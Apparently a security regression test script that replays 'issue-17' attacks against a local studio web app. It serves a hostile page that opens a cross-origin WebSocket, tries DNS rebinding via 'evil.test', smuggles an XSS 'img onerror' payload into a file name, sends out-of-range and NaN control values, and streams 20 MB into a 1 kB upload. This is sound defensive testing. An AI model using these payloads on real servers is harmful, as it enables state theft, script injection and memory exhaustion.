"""Run the issue-17 attacks against a studio (old or new code, by PYTHONPATH)."""
import http.server, threading, time, uuid, urllib.request, urllib.error, tempfile, inspect, sys
from pathlib import Path
import msgspec, viser
from websockets.sync.client import connect
from playwright.sync_api import sync_playwright
import biomorph.studio.server as S
from biomorph.studio import StudioApp
print("code:", S.__file__)
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--host-resolver-rules=MAP evil.test 127.0.0.1"]
XSS = '<img src=x onerror="window.__xss=1">'
data = Path(tempfile.mkdtemp())
(data / f"{XSS}.xyz").write_text("not numbers\n")
kw = {"shared": True} if "shared" in inspect.signature(StudioApp).parameters else {}
app = StudioApp(data, port=0, max_upload_bytes=1_000_000, tabs=["files", "tree"], **kw)
app.start(); port = app.port
res = {}
def raw(origin=f"http://127.0.0.1:{port}"):
    h = {"Origin": origin} if origin else {}
    ws = connect(f"ws://127.0.0.1:{port}/", additional_headers=h, subprotocols=[f"viser-v{viser.__version__}"], max_size=None, open_timeout=10)
    ws.send(msgspec.msgpack.encode({"type": "ViewerCameraMessage", "wxyz": (1.,0,0,0), "position": (3.,3,3), "fov": 1.0, "near": .01, "far": 100., "image_height": 100, "image_width": 100, "look_at": (0.,0,0), "up_direction": (0.,0,1)}))
    return ws
class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
        self.wfile.write(f"""<script>window.r={{bytes:0,closed:false}};const ws=new WebSocket("ws://127.0.0.1:{port}/",["viser-v{viser.__version__}"]);ws.binaryType="arraybuffer";ws.onmessage=e=>{{window.r.bytes+=e.data.byteLength}};ws.onclose=()=>{{window.r.closed=true}};setTimeout(()=>{{window.r.closed=true}},6000);</script>""".encode())
    def log_message(self, *a): pass
evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
threading.Thread(target=evil.serve_forever, daemon=True).start()
with sync_playwright() as pw:
    b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=ARGS)
    p = b.new_page(); p.goto(f"http://127.0.0.1:{evil.server_address[1]}/")
    p.wait_for_function("window.r.closed", timeout=20000)
    res["cross-origin websocket: bytes of state received"] = p.evaluate("window.r.bytes")
    r = b.new_page().goto(f"http://evil.test:{port}/")
    res["DNS rebinding: HTTP status for Host evil.test"] = r.status
    b.close()
try:
    raw(None).close(); res["client without Origin"] = "accepted"
except Exception as e: res["client without Origin"] = f"refused ({type(e).__name__})"
while not app.tabs.get("tree"): time.sleep(0.2)
files, tree = app.tabs["files"], app.tabs["tree"]
files.run("open", lambda: files.open(f"{XSS}.xyz"))
res["XSS: raw <img in the status markdown"] = "<img" in files.status.content
with raw() as ws:
    for h, v in ((tree.n_points, 300000), (tree.seed, float("nan"))):
        ws.send(msgspec.msgpack.encode({"type": "GuiUpdateMessage", "uuid": h._impl.uuid, "updates": {"value": v}}))
    time.sleep(1.5)
res["range: scan points after sending 300000"] = tree.n_points.value
res["range: seed after sending NaN"] = tree.seed.value
btn = tree.picker.upload; tid = str(uuid.uuid4())
try:
    with raw() as ws:
        ws.send(msgspec.msgpack.encode({"type": "FileTransferStartUpload", "source_component_uuid": btn._impl.uuid, "transfer_uuid": tid, "filename": "big.xyz", "mime_type": "text/plain", "part_count": 100000, "size_bytes": 1000}))
        for i in range(40):
            ws.send(msgspec.msgpack.encode({"type": "FileTransferPart", "source_component_uuid": btn._impl.uuid, "transfer_uuid": tid, "part_index": i, "content": b"1" * 500_000}))
        time.sleep(2)
except Exception as e: print("upload client:", type(e).__name__)
st = app.server.gui._current_file_upload_states
res["upload: MB buffered after declaring 1 kB and streaming 20 MB"] = round(sum(len(x) for s in st.values() for x in s["parts"].values()) / 1e6, 1)
app.stop()
for k, v in res.items(): print(f"  {k}: {v}")
